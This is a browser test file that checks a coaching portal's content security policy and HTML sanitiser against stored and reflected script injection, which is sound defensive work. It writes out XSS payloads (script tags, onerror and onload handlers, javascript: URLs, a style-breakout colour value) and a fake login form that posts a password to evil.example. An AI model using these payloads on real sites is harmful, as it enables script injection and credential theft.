import type { BrowserContext, Page } from 'playwright-core';
import { describe, expect, it } from 'vitest';
import { useBrowser } from '../support/browser.ts';
import { expectVisible } from '../support/expect.ts';
import { ACCOUNTS, sharedSession } from '../support/sign-in.ts';

// Issue 8 attack suite, "stored and reflected script" in the browser: script put into the URL
// (?brand=, /reset/{token}, /fbslogin/{token}), a tenant theme, or coach-written HTML (lesson and
// group descriptions, academy lessons) never runs. The CSP forbids inline script (DESIGN §4, §7);
// DOMPurify cleans coach HTML (DESIGN §3); theme fields are text. The server side of this is
// apps/server/test/abuse-script.test.ts.
const handle = useBrowser();

/** Every payload sets window.__xss (or opens a dialog) if it ever runs. */
const XSS = '"><img src=x onerror="window.__xss=1"><script>window.__xss=2</script><svg onload="window.__xss=3"></svg>';
const MARKER = 'Marker-7319: the coach wrote this';
const HOSTILE_HTML = `<p>${MARKER}</p><img src=x onerror="window.__xss=4"><script>window.__xss=5</script>`
  + '<a href="javascript:window.__xss=6">read more</a><iframe src="javascript:window.__xss=7"></iframe>'
  + '<svg><animate onbegin="window.__xss=8" attributeName="x" dur="1s"></animate></svg>'
  + '<form action="https://evil.example/steal"><input name="password"><button>Log in again</button></form>';

/** Watches a page for any sign of injected script having run. */
function watch(page: Page) {
  const dialogs: string[] = [];
  page.on('dialog', (d) => { dialogs.push(d.message()); void d.dismiss(); });
  return async function expectNothingRan(where: string) {
    expect(await page.evaluate(() => (window as unknown as { __xss?: number }).__xss), where).toBeUndefined();
    expect(dialogs, where).toEqual([]);
    const found = await page.evaluate(() => ({
      handlers: [...document.querySelectorAll('*')].flatMap((el) => [...el.attributes].filter((a) => /^on/i.test(a.name)).map((a) => `${el.tagName} ${a.name}`)),
      scripts: document.querySelectorAll('body script, script:not([src])').length,
      // what a click or a load would run (an <img> or icon never runs a javascript: URL)
      jsLinks: [...document.querySelectorAll('a[href], area[href], form[action], button[formaction], iframe[src], embed[src], object[data]')]
        .filter((el) => ['href', 'action', 'formaction', 'src', 'data'].some((a) => /^\s*javascript:/i.test(el.getAttribute(a) ?? ''))).length,
      frames: document.querySelectorAll('iframe, object, embed').length,
      forms: document.querySelectorAll('form[action^="http"]').length,
    }));
    expect(found, where).toEqual({ handlers: [], scripts: 0, jsLinks: 0, frames: 0, forms: 0 });
  };
}

/** Coach-written fields in every API and GraphQL reply become hostile HTML (a coach account gone bad). */
const RICH_FIELDS = new Set(['description', 'short_desc', 'full_desc', 'content', 'body', 'bio']);
function poison(value: unknown): unknown {
  if (Array.isArray(value)) return value.map(poison);
  if (!value || typeof value !== 'object') return value;
  return Object.fromEntries(Object.entries(value).map(([k, v]) => [k, RICH_FIELDS.has(k) && typeof v === 'string' ? HOSTILE_HTML : poison(v)]));
}
async function serveHostileContent(context: BrowserContext) {
  // The live event stream never ends, so it is left alone (it carries no coach-written text).
  await context.route((url) => url.pathname === '/gapi' || (url.pathname.startsWith('/api/v1/') && url.pathname !== '/api/v1/events'), async (route) => {
    try {
      const response = await route.fetch();
      if (!(response.headers()['content-type'] ?? '').includes('json')) return await route.fulfill({ response });
      return await route.fulfill({ response, json: poison(await response.json()) });
    } catch (err) {
      // A background call (the unread badge's poll) whose page moved on or closed meanwhile.
      if (!/already handled|closed|disposed/i.test((err as Error).message)) throw err;
    }
  });
}

describe('abuse: injected script never runs in the portal', () => {
  it('reflects nothing from ?brand=, /reset/{token} or /fbslogin/{token}, under a CSP without inline script', async () => {
    const page = await (await handle.newContext()).newPage();
    const expectNothingRan = watch(page);
    const payload = encodeURIComponent(XSS);
    for (const url of [`/?brand=${payload}`, `/login?brand=${payload}`, `/reset/${payload}`, `/fbslogin/${payload}`, `/reset/x?email=${payload}`]) {
      const response = await page.goto(url);
      const csp = response?.headers()['content-security-policy'] ?? '';
      expect(csp, url).toMatch(/script-src 'self'/);
      expect(csp, url).not.toMatch(/unsafe-inline|unsafe-eval/);
      await page.waitForLoadState('networkidle');
      await expectNothingRan(url);
      expect(await page.locator('img[src="x"]').count(), url).toBe(0);
    }
  });

  it('shows a theme whose title and footer carry markup as plain text', async () => {
    const theme = {
      title: `Evil Coaching${XSS}`, footerText: `<b>bold</b>${XSS}`, description: XSS,
      colors: { primary: 'red;}</style><script>window.__xss=9</script>', background: 'url(javascript:window.__xss=10)' },
      assets: { logo: 'javascript:window.__xss=11', favicon: 'javascript:window.__xss=12' },
      openGraph: { title: XSS }, twitter: { title: XSS },
    };
    const context = await sharedSession(handle.browser, ACCOUNTS.client);
    await context.route((url) => /^\/themes\/\d+\/theme\.json$/.test(url.pathname), (route) => route.fulfill({ json: theme }));
    const page = await context.newPage();
    const expectNothingRan = watch(page);
    await page.goto('/schedule');
    const footer = page.getByRole('contentinfo');
    await expectVisible(footer.getByText('<b>bold</b>', { exact: false }));
    expect(await footer.locator('b, img').count()).toBe(0);
    await expect.poll(() => page.title()).toContain('Evil Coaching"><img src=x');
    await expectNothingRan('/schedule with a hostile theme');
    await context.unrouteAll();
  });

  it('sanitises coach-written HTML in group, lesson and academy pages', async () => {
    const context = await sharedSession(handle.browser, ACCOUNTS.client);
    await serveHostileContent(context);
    const page = await context.newPage();
    const expectNothingRan = watch(page);
    const shown = async (where: string) => {
      await expectVisible(page.getByText(MARKER));
      await expectNothingRan(where);
      expect(await page.getByRole('link', { name: 'read more' }).count(), where).toBeLessThanOrEqual(1);
    };

    await page.goto('/groups');
    await page.getByRole('link', { name: 'Profit Accelerator', exact: true }).click();
    await page.waitForURL((url) => /^\/groups\/\d+\/\d+$/.test(url.pathname));
    await shown('group page');
    await page.getByRole('link', { name: 'Raising Average Order Value' }).click();
    await page.waitForURL((url) => /\/lesson\/\d+$/.test(url.pathname));
    await shown('group lesson');

    await page.goto('/business-academy');
    await page.getByRole('main').getByRole('heading', { level: 2 }).getByRole('link').first().click();
    await page.getByRole('region', { name: 'Lessons' }).getByRole('link').first().click();
    await page.waitForURL((url) => url.searchParams.has('lesson'));
    await shown('academy lesson');
    await context.unrouteAll();
  });
});
